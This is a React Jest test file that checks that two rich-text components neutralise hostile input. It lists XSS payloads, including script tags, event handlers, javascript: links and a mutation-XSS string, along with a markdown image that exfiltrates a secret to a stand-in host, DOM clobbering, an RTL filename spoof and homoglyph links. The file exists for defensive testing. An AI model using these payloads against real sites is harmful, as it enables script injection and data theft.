import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from '@jest/globals';
import { AnswerText, PlainText } from './rich-text.js';

afterEach(cleanup);

const ATTACKS = [
  '<script>window.hit=1</script><img src=x onerror=window.hit=1><svg onload=window.hit=1>',
  '[x](javascript:window.hit=1) ![x](javascript:window.hit=1) data:text/html,x',
  '![x](https://evil.test/?q=SECRET)',
  '<a href="https://evil.test" onclick="window.hit=1">click</a><iframe src="https://evil.test"></iframe>',
  '<form id="__proto__"><input name="config"></form>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"><math><mtext><table><mglyph><style><img src=x>',
];
const ALLOWED = new Set(['DIV', 'P', 'SPAN', 'UL', 'OL', 'LI', 'A', 'BDI']);

for (const [name, Text] of [
  ['a text of people', PlainText],
  ['an answer', AnswerText],
] as const)
  describe(name, () => {
    it.each(ATTACKS)('1–9: is text, whatever it looks like: %s', (text) => {
      const { container } = render(<Text text={`- ${text}\n\n${text}`} />);
      const elements = [...container.querySelectorAll('*')];
      expect(elements.filter(({ tagName }) => !ALLOWED.has(tagName))).toEqual([]);
      expect(container.textContent).toContain(text);
      for (const link of container.querySelectorAll('a')) {
        expect(link.href).toMatch(/^https:\/\/evil\.test/);
        expect([link.rel, link.target]).toEqual(['noopener noreferrer nofollow', '_blank']);
      }
    });

    it('10: stands apart from the direction of what is around it', () => {
      const { container } = render(<Text text={'\u202Egnp.exe'} />);
      expect(container.firstElementChild?.getAttribute('dir')).toBe('auto');
    });
  });

it('11: says the real host beside a link that hides it', () => {
  const { container } = render(<PlainText text="https://аpple.test" />);
  expect(container.textContent).toContain('(xn--pple-43d.test)');
});

it('an answer keeps the numbers of its lists', () => {
  const { container } = render(<AnswerText text={'2. Two\n3. Three'} />);
  expect(container.querySelector('ol')?.start).toBe(2);
  expect(container.querySelectorAll('li')).toHaveLength(2);
});
